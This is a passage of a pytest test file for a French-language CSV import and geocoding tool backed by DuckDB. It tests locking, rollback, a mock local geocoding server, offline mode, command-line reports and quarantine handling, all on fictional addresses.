def test_writer_lock_prevents_two_imports(db):
    before = file_sha(db)
    with writer_lock(db):
        with pytest.raises(DatabaseBusy, match="autre import"):
            apply(csv_bytes([action_row()]), "actions", db=db, filename="a.csv", offline=True, lock_timeout=0.3)
    assert file_sha(db) == before
    assert apply(csv_bytes([action_row()]), "actions", db=db, filename="a.csv", offline=True).applied


def test_failure_during_write_leaves_db_untouched(db, monkeypatch):
    before = file_sha(db)

    def boom(*a, **k):
        raise RuntimeError("disque plein (simulé)")

    monkeypatch.setattr(importer_writing, "_scheme_geometries", boom)
    with pytest.raises(RuntimeError):
        apply(csv_bytes([scheme_row()]), "schemes", db=db, filename="d.csv", offline=True)
    assert file_sha(db) == before
    assert not [p for p in db.parent.iterdir() if ".import-" in p.name]


# ---------------------------------------------------------------------------
# BAN geocoding (local server) and offline mode
# ---------------------------------------------------------------------------

class _BanHandler(BaseHTTPRequestHandler):
    answers: dict = {}
    calls: list = []

    def do_POST(self):  # noqa: N802
        """The CSV endpoint (/search/csv/, addok-csv): a multipart form with the file in `data`, the
        address column(s) in `columns`, a filter such as citycode=<column>; answers the file with
        latitude, longitude, result_label, result_score and result_citycode added."""
        from email.parser import BytesParser

        length = int(self.headers.get("Content-Length", 0))
        msg = BytesParser().parsebytes(b"Content-Type: " + self.headers["Content-Type"].encode() + b"\r\n\r\n"
                                       + self.rfile.read(length))
        form = {}
        for part in msg.get_payload():
            form.setdefault(part.get_param("name", header="content-disposition"), []).append(
                part.get_payload(decode=True))
        rows = list(csv.DictReader(io.StringIO(form["data"][0].decode("utf-8"))))
        columns = [c.decode() for c in form.get("columns", [])]
        type(self).calls.append((urlparse(self.path).path, len(rows)))
        out = io.StringIO(newline="")
        fields = list(rows[0].keys()) + ["latitude", "longitude", "result_label", "result_score", "result_citycode"]
        w = csv.DictWriter(out, fieldnames=fields, lineterminator="\n")
        w.writeheader()
        for row in rows:
            q = " ".join(row[c] for c in columns)
            hit = type(self).answers.get(q)
            extra = {"latitude": "", "longitude": "", "result_label": "", "result_score": "", "result_citycode": ""}
            if hit:
                lon, lat, score = hit
                extra = {"latitude": lat, "longitude": lon, "result_label": q, "result_score": score,
                         "result_citycode": "96009"}
            w.writerow({**row, **extra})
        body = out.getvalue().encode("utf-8")
        self.send_response(200)
        self.send_header("Content-Type", "text/csv; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def ban_server(monkeypatch):
    _BanHandler.calls = []
    _BanHandler.answers = {
        "3 rue des Fées 96090 Fictif-la-Rivière": (POINT_IN_QPV2[0], POINT_IN_QPV2[1], 0.93),
        "Lieu-dit Vague": (4.95, 44.05, 0.21),
    }
    server = ThreadingHTTPServer(("127.0.0.1", 0), _BanHandler)
    t = threading.Thread(target=server.serve_forever, daemon=True)
    t.start()
    monkeypatch.setenv("ATLAS_BAN_URL", f"http://127.0.0.1:{server.server_address[1]}/search/")
    yield _BanHandler
    server.shutdown()
    server.server_close()


def test_ban_geocoding_against_a_local_server_with_cache(db, tmp_path, ban_server, monkeypatch):
    monkeypatch.setenv("ATLAS_CACHE", str(tmp_path / "cache"))
    rows = [action_row(id_action="G1", qpv="", adresse="3 rue des Fées 96090 Fictif-la-Rivière"),
            action_row(id_action="G2", qpv="", adresse="Lieu-dit Vague"),
            action_row(id_action="G3", qpv="", adresse="Nulle part fictive")]
    rep = apply(csv_bytes(rows), "actions", db=db, filename="geo.csv", quarantine=True)
    assert ban_server.calls == [("/search/csv/", 3)]           # one batch request for the three addresses
    got = {r[0]: r[1:] for r in rows_of(db, "SELECT action_id, qpv_code, commune_code, lon, lat, "
                                            "location_method, address FROM action")}
    assert got["G1"] == ("QN09605I", "96009", POINT_IN_QPV2[0], POINT_IN_QPV2[1], "address",
                         "3 rue des Fées 96090 Fictif-la-Rivière")
    assert got["G2"][0:5] == (None, None, None, None, None)          # loaded, but not located
    locate = {p.row: p.reason for p in rep.needs_coordinates}
    assert "imprécise" in locate[3] and "introuvable" in locate[4]
    # second run: answered from the on-disk cache, nothing changes
    ban_server.calls.clear()
    rep2 = apply(csv_bytes(rows), "actions", db=db, filename="geo.csv", quarantine=True)
    assert ban_server.calls == [] and rep2.n_unchanged == 3
    # the cache also serves offline runs
    rep3 = validate(csv_bytes(rows[:1]), "actions", db=db, filename="geo.csv", offline=True)
    assert rep3.ok and not rep3.needs_coordinates and rep3.n_unchanged == 1


def test_offline_mode_lists_rows_needing_coordinates(db, tmp_path):
    rows = [action_row(id_action="O1", qpv="", adresse="12 rue des Licornes, Bourg-Fictif"),
            action_row(id_action="O2", qpv="", commune="96003", adresse="5 avenue Imaginaire"),
            action_row(id_action="O3", qpv="", adresse="8 rue Sans-Nom", longitude="-6.79", latitude="45.90")]
    rep = apply(csv_bytes(rows), "actions", db=db, filename="off.csv", geocoder=offline_geocoder(tmp_path))
    assert rep.applied, rep.summary()
    need = {p.row: p for p in rep.needs_coordinates}
    assert set(need) == {2, 3}                       # O3 has coordinates: no geocoding needed
    assert "hors ligne" in need[2].reason and "non localisée" in need[2].reason
    assert "commune" in need[3].reason and need[2].column == "adresse"
    assert "à localiser (coordonnées à fournir) : 2" in rep.summary()
    got = {r[0]: r[1:] for r in rows_of(db, "SELECT action_id, commune_code, location_method FROM action")}
    assert got == {"O1": (None, None), "O2": ("96003", "commune"), "O3": ("96003", "coordinates")}


def test_unreachable_ban_is_reported_like_offline(db, tmp_path, monkeypatch):
    monkeypatch.setenv("ATLAS_BAN_URL", "http://127.0.0.1:9/search/")      # discard port: refused
    geo = Geocoder(cache_dir=tmp_path / "ban", timeout=2)
    rows = [action_row(id_action=f"B{i}", qpv="", commune="96003", adresse=f"{i} rue Fictive") for i in range(3)]
    rep = validate(csv_bytes(rows), "actions", db=db, filename="b.csv", geocoder=geo)
    assert rep.ok and len(rep.needs_coordinates) == 3
    assert all("injoignable" in p.reason for p in rep.needs_coordinates)


# ---------------------------------------------------------------------------
# Command line and reports
# ---------------------------------------------------------------------------

def test_cli_import_success_and_rejection(db, tmp_path, capsys, templates):
    out = tmp_path / "rapports"
    code = etl_main(["--db", str(db), "import", "schemes", str(templates["modele_dispositifs.csv"]),
                     "--report", str(out), "--offline"])
    assert code == 0
    text = capsys.readouterr().out
    assert "Nouvelles : 3" in text and "Import effectué" in text
    bad = tmp_path / "bad.csv"
    bad.write_bytes(csv_bytes([action_row(id_action="Z1", titre=FORMULA, thematiques="Inconnue")]))
    code = etl_main(["import", "actions", str(bad), "--db", str(db), "--report", str(out), "--offline"])
    assert code == 2
    text = capsys.readouterr().out
    assert "ligne 2, colonne « thematiques », valeur « Inconnue »" in text and "tout ou rien" in text
    csvs = sorted(out.glob("*actions*.csv"))
    assert csvs and sorted(out.glob("*actions*.html"))
    rows = list(csv.reader(io.StringIO(csvs[-1].read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows[0] == ["gravite", "ligne", "colonne", "valeur", "motif"]
    assert ["erreur", "2", "thematiques", "Inconnue"] == rows[1][:4]
    # dry run: valid file, nothing written, exit 0
    before = file_sha(db)
    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes([action_row()]))
    assert etl_main(["import", "actions", str(good), "--db", str(db), "--dry-run", "--report", str(out)]) == 0
    assert file_sha(db) == before
    # quarantine: exit 0, rejected rows kept
    mixed = tmp_path / "mixed.csv"
    mixed.write_bytes(csv_bytes([action_row(id_action="M1"), action_row(id_action="M2", thematiques="?")]))
    assert etl_main(["import", "actions", str(mixed), "--db", str(db), "--quarantine", "--report", str(out),
                     "--offline"]) == 0
    assert rows_of(db, "SELECT count(*) FROM import_quarantine") == [(1,)]
    # quarantine where no row at all is valid: the rows are kept, but the exit code says so
    allbad = tmp_path / "allbad.csv"
    allbad.write_bytes(csv_bytes([action_row(id_action="M3", thematiques="?")]))
    assert etl_main(["import", "actions", str(allbad), "--db", str(db), "--quarantine", "--report", str(out),
                     "--offline"]) == 2
    assert rows_of(db, "SELECT count(*) FROM import_quarantine") == [(2,)]


def test_cli_missing_db_or_file(tmp_path, capsys):
    f = tmp_path / "a.csv"
    f.write_bytes(csv_bytes([action_row()]))
    assert etl_main(["import", "actions", str(f), "--db", str(tmp_path / "absente.duckdb")]) == 2
    assert "base introuvable" in capsys.readouterr().err


# ---------------------------------------------------------------------------
# Build loader (same validation, inside the build's connection)
# ---------------------------------------------------------------------------

def test_user_files_loader_detects_and_loads_templates(base_db, tmp_path, templates):
    db = copy_db(base_db, tmp_path / "build.duckdb")
    demo = tmp_path / "demo"
    demo.mkdir()
    (demo / "dispositifs.csv").write_bytes(templates["modele_dispositifs.csv"].read_bytes())
    (demo / "actions.csv").write_bytes(templates["modele_actions.csv"].read_bytes())
    other = demo / "autre.csv"
    other.write_text("CODGEO;LIBGEO;POP\nQP096001;Fictif;12\n", encoding="utf-8")
    assert user_files.detect(demo / "dispositifs.csv") and user_files.detect(demo / "actions.csv")
    assert not user_files.detect(other) and not user_files.detect(demo)
    assert user_files.detect(templates["modele_actions.xlsx"])
    con = connect(db, spatial=True)
    try:
        ctx = BuildContext(con=con, fictional=True)
        user_files.load(ctx, [demo / "actions.csv", demo / "dispositifs.csv"])   # schemes go first
        assert con.execute("SELECT count(*) FROM scheme").fetchone() == (3,)
        assert con.execute("SELECT count(*) FROM action").fetchone() == (4,)
        assert con.execute("SELECT count(DISTINCT source_id) FROM action").fetchone() == (1,)
        assert con.execute("SELECT fictional FROM source WHERE source_id = (SELECT any_value(source_id) "
                           "FROM action)").fetchone() == (True,)
        assert [i.kind for i in ctx.log.issues] == ["unlinked"]      # the address to geocode
    finally:
        con.close()


def test_user_files_loader_is_all_or_nothing(base_db, tmp_path):
    db = copy_db(base_db, tmp_path / "build.duckdb")
    f = tmp_path / "actions.csv"
    f.write_bytes(csv_bytes([action_row(id_action="B1"), action_row(id_action="B2", commune="12345", qpv="")]))
    con = connect(db, spatial=True)
    try:
        ctx = BuildContext(con=con)
        with pytest.raises(InputError) as exc:
            user_files.load(ctx, [f])
        msg = str(exc.value)
        assert "actions.csv" in msg and "ligne 3" in msg and "commune" in msg
        assert con.execute("SELECT count(*) FROM action").fetchone() == (0,)
        assert con.execute("SELECT count(*) FROM import_log").fetchone() == (0,)
    finally:
        con.close()


def test_import_into_rolls_back_on_failure(db, monkeypatch):
    con = connect(db, spatial=True)
    try:
        monkeypatch.setattr(importer_writing, "_scheme_geometries",
                            lambda *a: (_ for _ in ()).throw(RuntimeError("panne simulée")))
        with pytest.raises(RuntimeError):
            import_into(con, csv_bytes([scheme_row()]), "schemes", filename="d.csv")
        assert con.execute("SELECT count(*) FROM scheme").fetchone() == (0,)
        assert con.execute("SELECT count(*) FROM import_log").fetchone() == (0,)
    finally:
        con.close()


def test_codes_made_of_separators_only_are_errors_on_their_field(db):
    """Found by the property test: ';' alone in the commune column crashed the validation."""
    rows = [action_row(id_action="S1", qpv="", commune=";"), action_row(id_action="S2", qpv=" | ")]
    rep = validate(csv_bytes(rows), "actions", db=db, filename="sep.csv", offline=True)
    errs = {(p.row, p.column) for p in rep.errors}
    assert (2, "commune") in errs and (3, "qpv") in errs
    assert "aucun code" in reasons(rep)
